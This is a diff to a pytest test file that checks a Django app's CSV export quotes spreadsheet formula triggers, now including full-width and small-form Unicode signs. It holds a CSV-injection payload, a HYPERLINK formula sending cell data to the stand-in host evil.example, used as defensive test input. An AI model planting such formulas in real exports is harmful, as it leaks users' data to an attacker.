@@ -15,6 +15,8 @@ from tests.factories import ReflectionFactory, UserFactory
 pytestmark = pytest.mark.django_db
 
 TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
+# What a Chinese input method types: WPS evaluates these as formulas too.
+FULL_WIDTH_TRIGGERS = ["\uff1d", "\uff0b", "\uff0d", "\uff20"]
 FORMULA = 'HYPERLINK("https://evil.example/?d="&A1,"点我")'
 
 
@@ -45,6 +47,24 @@ def test_every_formula_trigger_is_quoted_in_every_column(trigger, principle):
     assert row["单位"] == "'" + trigger + "某某乡镇"
     assert row["标签"] == "'" + trigger + "标签"
     assert row["正文"] == "'" + trigger + "1+1 正文"
+
+
+@pytest.mark.parametrize("trigger", FULL_WIDTH_TRIGGERS, ids=["eq", "plus", "minus", "at"])
+def test_full_width_formula_triggers_are_quoted_too(trigger, principle):
+    reflection = hostile(trigger, principle)
+    [row] = csv_rows(reflections_csv(Reflection.objects.filter(pk=reflection.pk)))
+    assert row["标题"] == "'" + trigger + FORMULA
+    assert row["作者"] == "'" + trigger + "显示名"
+    assert row["单位"] == "'" + trigger + "某某乡镇"
+    assert row["正文"] == "'" + trigger + "1+1 正文"
+    # Tag names are NFKC-normalised on input: the full-width sign is stored as ASCII.
+    assert row["标签"].startswith("'")
+
+
+def test_small_form_variants_are_quoted():
+    # U+FE66 small equals sign, U+FE62 small plus sign: NFKC folds them to = and +.
+    assert csv_cell("\ufe66SUM(A1)") == "'\ufe66SUM(A1)"
+    assert csv_cell("\ufe62SUM(A1)") == "'\ufe62SUM(A1)"
 
 
 @pytest.mark.parametrize("trigger", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
